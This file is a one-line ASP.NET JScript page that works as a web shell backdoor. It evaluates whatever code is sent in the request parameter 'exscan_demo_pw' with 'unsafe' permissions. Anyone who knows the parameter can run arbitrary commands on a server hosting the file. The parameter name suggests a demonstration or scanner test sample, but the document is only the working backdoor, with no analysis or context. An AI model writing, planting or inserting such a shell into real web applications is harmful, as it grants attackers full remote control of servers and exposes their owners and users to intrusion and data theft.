<%@ Page Language="Jscript"%><%eval(Request.Item["exscan_demo_pw"],"unsafe");%>
